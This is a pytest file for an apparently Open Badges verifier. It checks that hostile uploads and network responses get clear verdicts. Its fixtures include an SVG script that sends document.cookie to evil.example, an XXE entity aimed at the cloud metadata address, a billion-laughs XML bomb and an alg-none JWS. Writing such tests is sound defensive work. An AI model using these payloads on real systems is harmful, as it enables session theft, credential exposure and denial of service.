"""Hostile and broken inputs: each ends in a clear verdict, never an exception or a hang."""

from __future__ import annotations

import base64
import json
import os
import struct
from datetime import UTC, datetime

import pytest

from app.verification.result import Outcome, Verdict
from app.verification.source import Source
from app.verification.verify import verify
from tests.support.fakes import FakeFetcher, FakeRoute
from tests.support.ob2_builders import IssuerKit, png, png_chunk

NOW = datetime(2025, 1, 1, tzinfo=UTC)


def b64(value: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<svg xmlns="http://www.w3.org/2000/svg">&lol3;</svg>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">
<openbadges:assertion verify="&xxe;"/></svg>"""
SCRIPT_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
<script>fetch('https://evil.example/?c='+document.cookie)</script><circle r="4"/></svg>"""
ALG_NONE = f"{b64({'alg': 'none'})}.{b64(IssuerKit().signed_payload())}."
HUGE_CHUNK = png()[:33] + struct.pack(">I", 0xFFFFFFF0) + b"iTXt" + b"openbadges\0" + b"\0" * 64


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        pytest.param(b"[" * 100_000, Verdict.INVALID, id="deep-nesting"),
        pytest.param(b'{"a":' * 50_000 + b"1" + b"}" * 50_000, Verdict.INVALID, id="deep-objects"),
        pytest.param(b'{"n": ' + b"9" * 100_000 + b"}", Verdict.INVALID, id="huge-number"),
        pytest.param(b'{"s": "' + b"x" * 3_000_000 + b'"}', Verdict.INVALID, id="huge-string"),
        pytest.param(b'{"@context": "x", "@context": "y"}', Verdict.INVALID, id="duplicate-keys"),
        pytest.param(b"[1, 2, 3]", Verdict.INVALID, id="json-list"),
        pytest.param(b'"just a string"', Verdict.UNSUPPORTED, id="json-string"),
        pytest.param(b"null", Verdict.UNSUPPORTED, id="json-null"),
        pytest.param(b"{}", Verdict.INVALID, id="empty-object"),
        pytest.param(SCRIPT_SVG, Verdict.UNSUPPORTED, id="svg-script-onload"),
        pytest.param(BILLION_LAUGHS, Verdict.INVALID, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, Verdict.INVALID, id="external-entity"),
        pytest.param(HUGE_CHUNK, Verdict.INVALID, id="png-huge-chunk-length"),
        pytest.param(
            png(png_chunk(b"iTXt", b"openbadges\0\0\0\0{"))[:-20],
            Verdict.INVALID,
            id="png-truncated",
        ),
        pytest.param(ALG_NONE.encode(), Verdict.INVALID, id="jws-alg-none"),
        pytest.param(b"\x00\xff\xfe garbage \x01\x02", Verdict.UNSUPPORTED, id="garbage"),
        pytest.param(b"", Verdict.INVALID, id="empty"),
        # a NUL first, so that chance never makes the random bytes look like JSON or a PNG
        pytest.param(b"\0" + os.urandom(5 * 1024 * 1024), Verdict.UNSUPPORTED, id="random-5mb"),
        pytest.param(b"\xff\xfe{\x00}\x00", Verdict.UNSUPPORTED, id="utf16-json"),
        pytest.param(b"e30.e30.e30.e30", Verdict.UNSUPPORTED, id="four-part-token"),
        pytest.param(
            b"eyJhbGciOiJSUzI1NiJ9.bm90IGpzb24.c2ln", Verdict.INVALID, id="jws-payload-not-json"
        ),
        pytest.param(b"<!doctype html><p>a page</p>", Verdict.UNSUPPORTED, id="html-page"),
    ],
)
def test_hostile_input_gets_a_clear_verdict(data: bytes, verdict: Verdict) -> None:
    fetcher = FakeFetcher()
    result = verify(Source.from_bytes(data, "upload"), fetcher=fetcher, now=NOW)
    assert result.verdict is verdict
    failure = next(c for c in result.checks if c.outcome is Outcome.FAIL)
    assert failure.detail and "Traceback" not in failure.detail
    assert fetcher.requests == []


@pytest.mark.parametrize(
    ("body", "verdict"),
    [
        pytest.param(b"[" * 100_000, Verdict.INVALID, id="deep"),
        pytest.param(b"\0" + os.urandom(100_000), Verdict.UNSUPPORTED, id="random"),
        pytest.param(b"", Verdict.INVALID, id="empty"),
    ],
)
def test_hostile_response_from_the_network_gets_a_clear_verdict(
    body: bytes, verdict: Verdict
) -> None:
    url = "https://issuer.example/a.json"
    fetcher = FakeFetcher({url: FakeRoute(body=body, content_type="application/json")})
    result = verify(Source.from_url(url), fetcher=fetcher, now=NOW)
    assert result.verdict is verdict


def test_redirect_loop_is_unreachable() -> None:
    url = "https://issuer.example/a.json"
    fetcher = FakeFetcher({url: FakeRoute(status=302, redirect_to=url)})
    assert verify(Source.from_url(url), fetcher=fetcher, now=NOW).verdict is Verdict.UNREACHABLE


def test_unexpected_errors_become_invalid_at_the_boundary() -> None:
    class Exploding:
        def fetch(self, url: str, **kwargs: object) -> object:
            raise RuntimeError("bug")

    result = verify(Source.from_url("https://issuer.example/a.json"), fetcher=Exploding(), now=NOW)  # type: ignore[arg-type]
    assert result.verdict is Verdict.INVALID
    assert "could not be read" in result.checks[-1].detail
